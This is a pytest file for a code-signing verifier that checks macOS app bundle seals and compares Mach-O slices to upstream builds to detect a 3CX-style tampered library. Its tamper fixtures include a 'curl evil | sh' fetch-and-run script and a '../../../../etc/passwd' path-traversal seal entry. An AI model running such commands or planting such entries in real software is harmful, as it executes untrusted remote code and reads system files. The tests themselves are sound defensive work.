"""App bundle seals (CodeResources, nested code) on the Electron-like fixture, and the 3CX
pattern compared per slice with the thin upstream apps."""

from __future__ import annotations

import hashlib
import plistlib
import shutil
from pathlib import Path

import pytest

from verifier._scenarios import macho_app as ma
from verifier.analysis import AnalysisContext
from verifier.analysis.macho import analyze_macho
from verifier.binary.macho_compare import compare_slices
from verifier.checks.macos import bundle
from verifier.model import BinaryFacts, Blob, FileEntry, Status
from verifier.signing.trust import TrustConfig


@pytest.fixture(scope="module")
def ctx(mac_scenario: dict[str, Path]) -> AnalysisContext:
    return AnalysisContext(trust=TrustConfig(extra_pem=(str(mac_scenario["roots"]),)))


def _copy(app: Path, tmp_path: Path) -> Path:
    dest = tmp_path / app.name
    shutil.copytree(app, dest, symlinks=True)
    return dest


def _entry(path: Path, rel: str, ctx: AnalysisContext | None = None) -> FileEntry:
    sha, facts = analyze_macho(Blob.of_file(path), rel, ctx)
    return FileEntry(rel, rel, (), path.stat().st_size, sha, facts, Blob.of_file(path))


@pytest.mark.parametrize("which", ["upstream-x64", "upstream-arm64", "vendor-clean", "vendor-3cx"])
def test_sealed_bundles_verify(
    mac_scenario: dict[str, Path], ctx: AnalysisContext, which: str
) -> None:
    app = mac_scenario[which]
    r = bundle.check_bundle(str(app.parent), app.name, ctx)
    assert r.anomalies == () and r.valid is True
    assert r.signature.signed and r.signature.valid is True
    (fw,) = r.nested
    assert fw.path.endswith("Electron Framework.framework") and fw.valid is True
    assert r.details.checked >= 3


def test_untrusted_without_trust_store(mac_scenario: dict[str, Path]) -> None:
    app = mac_scenario["vendor-clean"]
    rules = {a.rule for a in bundle.verify_bundle(str(app.parent), app.name)}
    assert rules == {"untrusted-signer"}


def test_changed_libffmpeg_in_sealed_bundle(
    mac_scenario: dict[str, Path], ctx: AnalysisContext, tmp_path: Path
) -> None:
    app = _copy(mac_scenario["vendor-clean"], tmp_path)
    ff = app.parent / app.name / ma.FFMPEG.replace("Contents/", "Contents/", 1)
    data = bytearray(ff.read_bytes())
    data[0x4000 + 0x1000 + 10] ^= 0xFF  # code of the first slice
    ff.write_bytes(bytes(data))
    r = bundle.check_bundle(str(tmp_path), app.name, ctx)
    assert r.valid is False
    paths = {a.evidence["path"] for a in r.anomalies if a.rule == "invalid-signature"}
    assert f"Acme.app/{ma.FFMPEG}" in paths
    assert any("was modified" in a.message for a in r.anomalies)


def test_added_removed_and_changed_resources(
    mac_scenario: dict[str, Path], ctx: AnalysisContext, tmp_path: Path
) -> None:
    app = _copy(mac_scenario["vendor-clean"], tmp_path)
    res = app / "Contents" / "Resources"
    (res / "payload.dylib").write_bytes(b"evil")
    (res / "electron.icns").unlink()
    (res / "app.asar").write_bytes(b"changed")
    (res / ".DS_Store").write_bytes(b"omitted by rule")
    r = bundle.check_bundle(str(tmp_path), app.name, ctx)
    by_path = {a.evidence["path"]: a.message for a in r.anomalies}
    assert "added" in by_path["Acme.app/Contents/Resources/payload.dylib"]
    assert "missing" in by_path["Acme.app/Contents/Resources/electron.icns"]
    assert "modified" in by_path["Acme.app/Contents/Resources/app.asar"]
    assert "Acme.app/Contents/Resources/.DS_Store" not in by_path
    assert r.valid is False


def test_info_plist_and_code_resources_are_bound_to_the_executable(
    mac_scenario: dict[str, Path], ctx: AnalysisContext, tmp_path: Path
) -> None:
    app = _copy(mac_scenario["vendor-clean"], tmp_path)
    info = app / "Contents" / "Info.plist"
    pl = plistlib.loads(info.read_bytes())
    pl["LSUIElement"] = True
    info.write_bytes(plistlib.dumps(pl))
    r = bundle.check_bundle(str(tmp_path), app.name, ctx)
    assert any("info-plist" in a.message for a in r.anomalies)
    # re-writing CodeResources to hide a change breaks the resources slot
    app2 = _copy(mac_scenario["vendor-clean"], tmp_path / "b")
    seal_path = app2 / "Contents" / "_CodeSignature" / "CodeResources"
    seal = plistlib.loads(seal_path.read_bytes())
    del seal["files2"]["Resources/app.asar"]
    seal_path.write_bytes(plistlib.dumps(seal))
    r = bundle.check_bundle(str(tmp_path / "b"), app2.name, ctx)
    assert any("resources" in a.message for a in r.anomalies)


def test_hostile_code_resources(
    mac_scenario: dict[str, Path], ctx: AnalysisContext, tmp_path: Path
) -> None:
    app = _copy(mac_scenario["vendor-clean"], tmp_path)
    seal_path = app / "Contents" / "_CodeSignature" / "CodeResources"
    seal = plistlib.loads(seal_path.read_bytes())
    seal["files2"]["../../../../etc/passwd"] = {"hash2": b"\0" * 32}
    seal["rules2"]["(unclosed"] = True
    seal_path.write_bytes(plistlib.dumps(seal))
    r = bundle.check_bundle(str(tmp_path), app.name, ctx)
    assert any("escapes the bundle" in a.message for a in r.anomalies)
    seal_path.write_bytes(b"<plist><dict><key>files2</key>")  # truncated
    r = bundle.check_bundle(str(tmp_path), app.name, ctx)
    assert r.valid is False and any("CodeResources" in a.message for a in r.anomalies)


def test_3cx_pattern_compared_per_slice(
    mac_scenario: dict[str, Path], ctx: AnalysisContext
) -> None:
    up_x = _entry(mac_scenario["upstream-x64"] / ma.FFMPEG, "x64/libffmpeg.dylib", ctx)
    up_a = _entry(mac_scenario["upstream-arm64"] / ma.FFMPEG, "arm64/libffmpeg.dylib", ctx)
    evil = _entry(mac_scenario["vendor-3cx"] / ma.FFMPEG, "libffmpeg.dylib", ctx)
    clean = _entry(mac_scenario["vendor-clean"] / ma.FFMPEG, "libffmpeg.dylib", ctx)
    assert evil.facts.signature.signed and evil.facts.signature.valid is True
    assert evil.facts.signature.signers[0].team_id == "ACME000001"
    res, ev = compare_slices(evil, [up_x, up_a])
    st = {r.arch: r.status for r in res}
    assert st == {"x86_64": Status.DIVERGENT, "arm64": Status.IDENTICAL_EXCEPT_SIGNATURE}
    assert ev["arch"] == "x86_64"
    assert {s["name"]: s["differing_bytes"] for s in ev["sections"]}["__TEXT,__text"] == 7
    res, ev = compare_slices(clean, [up_x, up_a])
    assert {r.status for r in res} == {Status.IDENTICAL_EXCEPT_SIGNATURE}


def test_framework_fuses_are_resources_only(mac_scenario: dict[str, Path]) -> None:
    rel = f"{ma.FW_VERSION}/Electron Framework"
    refs = [_entry(mac_scenario[k] / rel, k) for k in ("upstream-x64", "upstream-arm64")]
    shipped = _entry(mac_scenario["vendor-clean"] / rel, "fw")
    res, ev = compare_slices(shipped, refs)
    assert {r.status for r in res} == {Status.RESOURCES_ONLY}
    assert ev["slices"][0]["fuses"] == {"expected": "1101", "actual": "1001"}


def test_find_bundles(mac_scenario: dict[str, Path]) -> None:
    root = mac_scenario["vendor-3cx"].parent
    assert bundle.find_bundles(str(root)) == ["Acme.app"]


def test_electron_version_marker(mac_scenario: dict[str, Path]) -> None:
    fw = _entry(mac_scenario["vendor-clean"] / f"{ma.FW_VERSION}/Electron Framework", "fw")
    assert fw.facts.markers == {"electron_version": ma.ELECTRON_VERSION}
    assert [s.fuses.values for s in fw.facts.slices if s.fuses] == ["1001", "1001"]


def test_verify_tree_keys_by_offending_file(
    mac_scenario: dict[str, Path], ctx: AnalysisContext, tmp_path: Path
) -> None:
    app = _copy(mac_scenario["vendor-clean"], tmp_path)
    assert bundle.verify_tree(str(tmp_path), ctx) == {}
    (app / "Contents" / "Resources" / "app.asar").write_bytes(b"changed")
    found = bundle.verify_tree(str(tmp_path), ctx)
    assert list(found) == ["Acme.app/Contents/Resources/app.asar"]
    assert found["Acme.app/Contents/Resources/app.asar"][0].rule == "invalid-signature"


def test_symlinks_out_of_the_bundle_are_not_followed(
    mac_scenario: dict[str, Path], ctx: AnalysisContext, tmp_path: Path
) -> None:
    secret = tmp_path / "secret"
    secret.write_bytes(b"outside")
    root = tmp_path / "root"
    app = _copy(mac_scenario["vendor-clean"], root)
    asar = app / "Contents" / "Resources" / "app.asar"
    asar.unlink()
    asar.symlink_to(secret)
    r = bundle.check_bundle(str(root), app.name, ctx)
    msgs = {a.evidence["path"]: a.message for a in r.anomalies}
    assert "leaves the bundle" in msgs["Acme.app/Contents/Resources/app.asar"]
    # a bundle whose Contents is a link to elsewhere is not read at all
    evil = root / "Evil.app"
    evil.mkdir()
    (evil / "Contents").symlink_to(app / "Contents")
    other = tmp_path / "other"
    other.mkdir()
    (other / "Evil.app").symlink_to(evil)
    r = bundle.check_bundle(str(other), "Evil.app", ctx)
    assert r.valid is False and "not a bundle" in r.anomalies[0].message


def test_known_digests_and_facts_are_reused(
    mac_scenario: dict[str, Path], ctx: AnalysisContext, tmp_path: Path
) -> None:
    from verifier.analysis import analyze

    app = _copy(mac_scenario["vendor-clean"], tmp_path)
    known: dict[str, tuple[str, BinaryFacts | None]] = {}
    for p in app.rglob("*"):
        if p.is_file() and not p.is_symlink():
            sha, facts = analyze(Blob.of_file(p), p.name, ctx)
            known[p.relative_to(tmp_path).as_posix()] = (sha, facts)
    r = bundle.check_bundle(str(tmp_path), app.name, ctx, known=known)
    assert r.valid is True and r.anomalies == ()
    # a stale digest for a sealed file is caught without re-reading it
    key = "Acme.app/Contents/Resources/app.asar"
    known[key] = ("00" * 32, None)
    r = bundle.check_bundle(str(tmp_path), app.name, ctx, known=known)
    assert {a.evidence["path"] for a in r.anomalies} == {key}
    # Info.plist is checked against the slot hash recorded in the executable's facts
    asar = (app / "Contents/Resources/app.asar").read_bytes()
    known[key] = (hashlib.sha256(asar).hexdigest(), None)
    (app / "Contents" / "Info.plist").write_bytes(b"<plist/>")
    r = bundle.check_bundle(str(tmp_path), app.name, ctx, known=known)
    assert any("info-plist does not match" in a.message for a in r.anomalies)


@pytest.fixture(scope="module")
def linked_app(
    mac_scenario: dict[str, Path], tmp_path_factory: pytest.TempPathFactory
) -> tuple[Path, Path, AnalysisContext]:
    """vendor-clean with a sealed symlink in Contents (``bin/app -> ../MacOS/Acme``),
    re-sealed by a fresh identity, and a context that trusts it."""
    root = tmp_path_factory.mktemp("linked")
    app = root / mac_scenario["vendor-clean"].name
    shutil.copytree(mac_scenario["vendor-clean"], app, symlinks=True)
    (app / "Contents" / "bin").mkdir()
    (app / "Contents" / "bin" / "app").symlink_to("../MacOS/Acme")
    ident = ma.vendor_identity()
    ma.seal_bundle(app, ident, "com.acme.app")
    pem = root.parent / "linked-root.pem"
    pem.write_bytes(ident.root_pem())
    return root, app, AnalysisContext(trust=TrustConfig(extra_pem=(str(pem),)))


Linked = tuple[Path, Path, AnalysisContext]


def _fresh(linked_app: Linked, tmp_path: Path) -> tuple[Path, Path]:
    root = tmp_path / "root"
    app = _copy(linked_app[1], root)
    return root, app


def test_sealed_symlink_verifies(linked_app: Linked) -> None:
    root, app, ctx = linked_app
    seal = plistlib.loads((app / "Contents/_CodeSignature/CodeResources").read_bytes())
    assert seal["files2"]["bin/app"] == {"symlink": "../MacOS/Acme"}
    r = bundle.check_bundle(str(root), app.name, ctx)
    assert r.valid is True and r.anomalies == ()


def test_sealed_symlink_absent_from_a_linkless_container_is_a_note(
    linked_app: Linked, tmp_path: Path
) -> None:
    """A wheel cannot hold the link: its absence is a note, not an invalid signature."""
    from verifier.model import Severity

    ctx = linked_app[2]
    root, app = _fresh(linked_app, tmp_path)
    (app / "Contents" / "bin" / "app").unlink()
    r = bundle.check_bundle(str(root), app.name, ctx, links=False)
    assert r.valid is True
    (a,) = r.anomalies
    assert a.rule == "invalid-signature" and a.severity == Severity.INFO
    assert a.evidence["sealed_symlink"] == "bin/app"
    assert a.evidence["path"] == f"{app.name}/Contents/_CodeSignature/CodeResources"
    assert a.region_sha256 == hashlib.sha256(b"bin/app\0../MacOS/Acme").hexdigest()
    # in a container that holds links (a folder, a tar, a zip) the same absence is invalid
    r = bundle.check_bundle(str(root), app.name, ctx, links=True)
    assert r.valid is False
    (b,) = r.anomalies
    assert b.severity is None and "is missing" in b.message


def test_sealed_symlink_replaced_or_retargeted_stays_invalid(
    linked_app: Linked, tmp_path: Path
) -> None:
    ctx = linked_app[2]
    root, app = _fresh(linked_app, tmp_path)
    link = app / "Contents" / "bin" / "app"
    link.unlink()
    link.write_bytes(b"#!/bin/sh\ncurl evil | sh\n")  # a file where the seal says link
    r = bundle.check_bundle(str(root), app.name, ctx, links=False)
    assert r.valid is False and "is not a link" in r.anomalies[0].message
    link.unlink()
    link.symlink_to("../Resources/app.asar")  # a link with another target
    r = bundle.check_bundle(str(root), app.name, ctx, links=False)
    assert r.valid is False and "changed" in r.anomalies[0].message


def test_linkless_containers() -> None:
    from verifier.checks.macos import holds_links

    assert holds_links(())
    assert holds_links(("app.zip",)) and holds_links(("x.tar.gz", "inner.zip"))
    assert not holds_links(("cmake-3.14.4-py3-none-macosx_10_6_x86_64.whl",))
    assert not holds_links(("outer.zip", "pkg.WHL"))
